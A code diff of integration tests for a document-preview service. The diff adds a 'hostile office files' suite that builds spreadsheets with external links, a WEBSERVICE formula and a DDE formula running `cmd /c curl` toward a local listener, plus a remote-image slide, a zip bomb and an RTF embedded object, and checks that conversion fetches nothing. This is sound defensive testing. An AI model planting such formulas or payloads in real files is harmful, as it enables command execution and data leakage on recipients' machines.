@@ -1,7 +1,10 @@
 // The page-faithful preview through the real API: upload → conversion (LibreOffice, qpdf, MuPDF,
 // poppler in the sandbox) → GET /pages, page images and text layers → download; who sees which
 // page, and that nothing is rendered for a page the caller may not see.
+import { spawnSync } from 'node:child_process';
 import { createHash } from 'node:crypto';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { readFileSync } from 'node:fs';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -9,7 +12,7 @@ import { createTestContext, registerUser, type TestContext } from '../../test/ap
 import type { Converter } from '../conversion/index.js';
 import { buildPdf } from '../conversion/pdf-fixtures.js';
 import type { ConversionWorker } from './conversion.worker.js';
-import { blobKeys, SEED_DOC, SEED_TITLE, startTestWorker, testConverter, upload, waitForConversion } from './test-support.js';
+import { blobKeys, GOV_REPORT_DOC, SEED_DOC, startTestWorker, testConverter, upload, waitForConversion } from './test-support.js';
 
 const FIXTURES = path.resolve(path.dirname(new URL(import.meta.url).pathname), '../../test/fixtures/generated');
 
@@ -133,7 +136,8 @@ describe('the seed: pages, text layer, thumbnail, download', () => {
 describe('who sees which page of a paid document with 2 free pages', () => {
   let id: number;
   beforeAll(async () => {
-    ({ id } = await uploaded(SEED_DOC, { priceCents: '500', freePreviewPages: '2', title: '付费讲话稿' }, 'paid-seed.doc'));
+    // Another 8-page document (the seed itself is already uploaded above).
+    ({ id } = await uploaded(GOV_REPORT_DOC, { priceCents: '500', freePreviewPages: '2', title: '付费工作报告' }));
   }, 200_000);
 
   const shown = async (who?: User) => {
@@ -228,8 +232,9 @@ describe('every format family: upload → conversion → pages → download', ()
       // The title comes from the document (the stale property titles 「标准名称」 lose).
       expect(doc.title).not.toMatch(/标准名称/);
 
-      const link = await ctx.http().post(`/api/v1/documents/${id}/download-link`).set('authorization', `Bearer ${alice.token}`).send({});
-      if (link.status === 200 || link.status === 201) {
+      const link = await ctx.http().post(`/api/v1/documents/${id}/download-link`).set('authorization', `Bearer ${alice.token}`).send({ confirm: true });
+      expect(link.status).toBe(200);
+      {
         const dl = await ctx.http().get(new URL(link.body.url, 'http://x').pathname + new URL(link.body.url, 'http://x').search).buffer(true).parse((res, cb) => {
           const chunks: Buffer[] = [];
           res.on('data', (c: Buffer) => chunks.push(c));
@@ -285,5 +290,100 @@ describe('hostile files through upload', () => {
     expect(doc.pdfKey).toBeNull();
     expect(await pageRows(id)).toHaveLength(0);
     expect((await blobKeys(ctx)).length - before.length).toBe(1); // only the original upload
+  }, 200_000);
+});
+
+describe('hostile office files: nothing is fetched, everything is contained', () => {
+  let server: Server;
+  let port = 0;
+  const hits: string[] = [];
+  beforeAll(async () => {
+    server = createServer((req, res) => {
+      hits.push(`${req.method} ${req.url}`);
+      res.end('fetched');
+    });
+    server.on('connection', () => hits.push('connection'));
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    port = (server.address() as AddressInfo).port;
+    // The listener works from here (so silence below means no fetch).
+    await fetch(`http://127.0.0.1:${port}/probe`);
+    expect(hits).toContain('GET /probe');
+    hits.length = 0;
+  });
+  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));
+
+  /** Rewrites a fixture package with python's zipfile: replaced and added parts. */
+  function repack(fixture: string, parts: Record<string, string>, replace: Record<string, [string, string]> = {}): Buffer {
+    const script = `
+import sys, zipfile, io, json
+src, spec = sys.argv[1], json.loads(sys.stdin.read())
+out = io.BytesIO()
+with zipfile.ZipFile(src) as zin, zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as zout:
+    for item in zin.infolist():
+        data = zin.read(item.filename)
+        if item.filename in spec['replace']:
+            a, b = spec['replace'][item.filename]
+            data = data.decode('utf-8').replace(a, b, 1).encode('utf-8')
+        zout.writestr(item.filename, data)
+    for name, text in spec['parts'].items():
+        zout.writestr(name, text)
+sys.stdout.buffer.write(out.getvalue())
+`;
+    const r = spawnSync('python3', ['-c', script, path.join(FIXTURES, fixture)], { input: JSON.stringify({ parts, replace }), maxBuffer: 64 << 20 });
+    if (r.status !== 0) throw new Error(r.stderr.toString());
+    return r.stdout;
+  }
+
+  it('when an .xlsx has external links, WEBSERVICE and DDE formulas, then it converts and LibreOffice connects to nothing', async () => {
+    const url = `http://127.0.0.1:${port}`;
+    const xlsx = repack('zh-budget.xlsx', {
+      'xl/externalLinks/externalLink1.xml': `<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>`,
+      'xl/externalLinks/_rels/externalLink1.xml.rels': `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="${url}/book.xlsx" TargetMode="External"/></Relationships>`,
+    }, {
+      'xl/worksheets/sheet1.xml': ['</sheetData>', `<row r="90"><c r="A90"><f>WEBSERVICE("${url}/ws")</f></c><c r="B90"><f>[1]Sheet1!A1</f></c><c r="C90"><f>cmd|'/c curl ${url}/dde'!A0</f></c></row></sheetData>`],
+    });
+    const { id, status, failureReason } = await uploaded(xlsx, {}, 'links.xlsx');
+    expect(status, failureReason ?? '').toBe('ready');
+    expect((await get(`/api/v1/documents/${id}/pages`)).body.pages.length).toBeGreaterThan(0);
+    expect(hits).toEqual([]);
+  }, 200_000);
+
+  it('when a .pptx slide links a remote image, then it converts and nothing is fetched', async () => {
+    const url = `http://127.0.0.1:${port}`;
+    const pptx = repack('zh-slides.pptx', {}, {
+      'ppt/slides/_rels/slide1.xml.rels': ['</Relationships>', `<Relationship Id="rIdRemote" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="${url}/remote.png" TargetMode="External"/></Relationships>`],
+      'ppt/slides/slide1.xml': ['</p:spTree>', `<p:pic><p:nvPicPr><p:cNvPr id="99" name="Remote"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:link="rIdRemote"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic></p:spTree>`],
+    });
+    const { status, failureReason } = await uploaded(pptx, {}, 'remote.pptx');
+    expect(status, failureReason ?? '').toBe('ready');
+    expect(hits).toEqual([]);
+  }, 200_000);
+
+  it('when a spreadsheet is a zip bomb, then it fails with the Chinese reason and no PDF or page is kept', async () => {
+    const before = await blobKeys(ctx);
+    const bomb = repack('zh-budget.xlsx', { 'xl/media/pad.xml': 'A'.repeat(40 * 1024 * 1024) });
+    const { id, status, failureReason } = await uploaded(bomb, {}, 'bomb.xlsx');
+    expect(status).toBe('failed');
+    expect(failureReason).toMatch(/压缩炸弹/);
+    expect(await pageRows(id)).toHaveLength(0);
+    expect((await blobKeys(ctx)).length - before.length).toBe(1);
+  }, 200_000);
+
+  it('when a TXT is 50 MB on one line, then it is laid out in part with an estimated page count, and the original is kept', async () => {
+    const big = Buffer.alloc(50_000_000, '文库测试'.repeat(1));
+    const { id, status, failureReason } = await uploaded(Buffer.from(big.toString('utf8').slice(0, 16_000_000)), {}, 'one-line.txt');
+    expect(status, failureReason ?? '').toBe('ready');
+    const doc = await docRow(id);
+    expect(doc.previewPages).toBeGreaterThan(0);
+    expect(doc.pages).toBeGreaterThan(doc.previewPages);
+    expect((await get(`/api/v1/documents/${id}/pages`)).body).toMatchObject({ truncated: true });
+  }, 300_000);
+
+  it('when an RTF carries an embedded object, then it converts to pages with its text', async () => {
+    const rtf = '{\\rtf1\\ansi\\ansicpg936{\\fonttbl{\\f0 SimSun;}}\\f0 Embedded object test \\par{\\object\\objemb\\objw100\\objh100{\\*\\objclass Package}{\\*\\objdata 01050000020000000800000050616b6167650000000000000000001000000041414141414141414141414141414141}}\\par Done.}';
+    const { id, status, failureReason } = await uploaded(Buffer.from(rtf, 'latin1'), {}, 'object.rtf');
+    expect(status, failureReason ?? '').toBe('ready');
+    const text = await get(`/api/v1/documents/${id}/pages/1/text`);
+    expect(text.body.lines.map((l: { text: string }) => l.text).join(' ')).toContain('Embedded object test');
   }, 200_000);
 });
